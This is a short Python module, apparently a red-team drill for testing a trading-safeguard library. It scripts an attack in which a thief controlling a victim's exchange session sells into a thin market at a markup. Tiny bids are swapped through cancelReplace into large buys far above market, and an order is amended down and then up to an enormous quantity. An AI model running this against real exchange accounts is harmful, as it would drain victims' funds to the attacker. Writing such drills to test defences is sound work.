"""Amend and cancelReplace: an innocent order is let in and then becomes another one."""

from tradelatch.drills.attack import Thief
from tradelatch.drills.attacks._tactics import raise_cash

PARAMETERS = {"markup": (1.5, 4.0)}


async def attack(thief: Thief) -> None:
    """A tiny bid below the market is replaced by a large one far above it; another is amended to
    less, so that room becomes free, and then to more."""
    thin, victim = thief.thin[0], thief.victim
    money = await raise_cash(thief)
    ticker = await thief.ticker(thin)
    name, price = thin.replace("/", ""), ticker.ask * thief.parameters["markup"]
    await thief.me.sell(thin, money / price, price)
    for number in range(4):
        innocent = await victim.buy(thin, 0.001 / ticker.bid, ticker.bid * 0.98)
        order = victim.order("BUY", thin, money * 0.24 / price, price)
        words = order.query.split("&timestamp")[0]
        stop = "STOP_ON_FAILURE" if innocent.ok else "ALLOW_FAILURE"
        words += f"&cancelReplaceMode={stop}&cancelOrderId={innocent.order or number + 1}"
        replaced = victim.sign("POST", "/api/v3/order/cancelReplace", words)
        await victim.send(replaced)
        another = await victim.buy(thin, 0.002 / ticker.bid, ticker.bid * 0.98)
        for quantity in (0.001 / ticker.bid, 99999999):  # to less, and then to more than ever
            amend = f"symbol={name}&orderId={another.order or 1}&newQty={quantity:.0f}"
            await victim.send(victim.sign("PUT", "/api/v3/order/amend/keepPriority", amend))
